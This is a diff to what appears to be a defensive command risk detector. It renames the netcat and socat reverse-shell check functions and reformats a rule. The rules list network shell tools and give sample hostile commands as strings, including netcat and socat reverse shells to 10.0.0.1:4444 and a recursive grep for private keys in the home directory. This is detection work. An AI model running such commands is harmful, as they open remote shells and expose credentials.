@@ -86,7 +86,7 @@ def _sends_secret(run: Invocation) -> bool:
     )
 
 
-def _netcat_shell(run: Invocation) -> bool:
+def _netcat_runs_shell(run: Invocation) -> bool:
     if is_help(run):
         return False
     return run.has("-e", "--exec", "--sh-exec") or (run.name in ("ncat", "nc") and run.has("-c")) or _feeds_shell(run)
@@ -96,7 +96,7 @@ def _feeds_shell(run: Invocation) -> bool:
     return any(u in SHELLS for u in run.upstream)
 
 
-def _socat_shell(run: Invocation) -> bool:
+def _socat_runs_shell(run: Invocation) -> bool:
     return any(re.match(r"(?i)(?:exec|system):", a) for a in run.args) and any(
         re.match(r"(?i)(?:tcp|udp|openssl|sctp)", a) for a in run.args
     )
@@ -286,9 +286,12 @@ RULES = (
     ),
     RiskRule("credentials", "grep egrep fgrep rgrep rg ag", _searches_a_home, "grep -r PRIVATE ~"),
     RiskRule(
-        "reverse-shell", "nc ncat netcat nc.traditional nc.openbsd telnet", _netcat_shell, "nc -e /bin/sh 10.0.0.1 4444"
+        "reverse-shell",
+        "nc ncat netcat nc.traditional nc.openbsd telnet",
+        _netcat_runs_shell,
+        "nc -e /bin/sh 10.0.0.1 4444",
     ),
-    RiskRule("reverse-shell", "socat", _socat_shell, "socat TCP:10.0.0.1:4444 EXEC:/bin/sh"),
+    RiskRule("reverse-shell", "socat", _socat_runs_shell, "socat TCP:10.0.0.1:4444 EXEC:/bin/sh"),
     RiskRule(
         "reverse-shell",
         "openssl",
